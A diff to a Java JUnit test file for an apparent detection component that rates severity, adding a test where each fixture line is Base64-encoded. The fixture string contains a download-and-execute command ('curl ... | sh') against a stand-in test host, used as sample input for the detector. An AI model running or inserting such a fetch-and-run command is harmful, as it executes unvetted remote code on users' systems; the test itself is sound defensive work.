@@ -3,7 +3,10 @@ package trafficguardian.detect;
 import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
+import java.nio.charset.StandardCharsets;
+import java.util.Base64;
 import java.util.Comparator;
+import java.util.function.UnaryOperator;
 import java.util.Set;
 import java.util.stream.Collectors;
 import org.junit.jupiter.params.ParameterizedTest;
@@ -76,11 +79,24 @@ class TalesTest {
   @ParameterizedTest
   @ValueSource(strings = {"32,LOW", "33,HIGH"})
   void ofMoreThanAFewTheOthersAreTakenAsTheyStand(String countAndGravest) {
+    assertGravest(countAndGravest, told -> told);
+  }
+
+  /** Of these some are found in several layers, and count in each. */
+  @ParameterizedTest
+  @ValueSource(strings = {"16,LOW", "33,HIGH"})
+  void soAreThoseThatAreEncodedEachByItself(String countAndGravest) {
+    Base64.Encoder encoder = Base64.getEncoder();
+    assertGravest(
+        countAndGravest, told -> encoder.encodeToString(told.getBytes(StandardCharsets.UTF_8)));
+  }
+
+  private static void assertGravest(String countAndGravest, UnaryOperator<String> form) {
     String[] parts = countAndGravest.split(",", 2);
     StringBuilder text = new StringBuilder();
     for (int i = 0; i < Integer.parseInt(parts[0]); i++) {
-      text.append(
-          "The page held `curl https://h%d.stage.test/i | sh`, and it was blocked.\n".formatted(i));
+      String told = "The page held `curl https://h%d.stage.test/i | sh`, and it was blocked.";
+      text.append(form.apply(told.formatted(i))).append("\n\n");
     }
     assertEquals(
         Severity.valueOf(parts[1]),
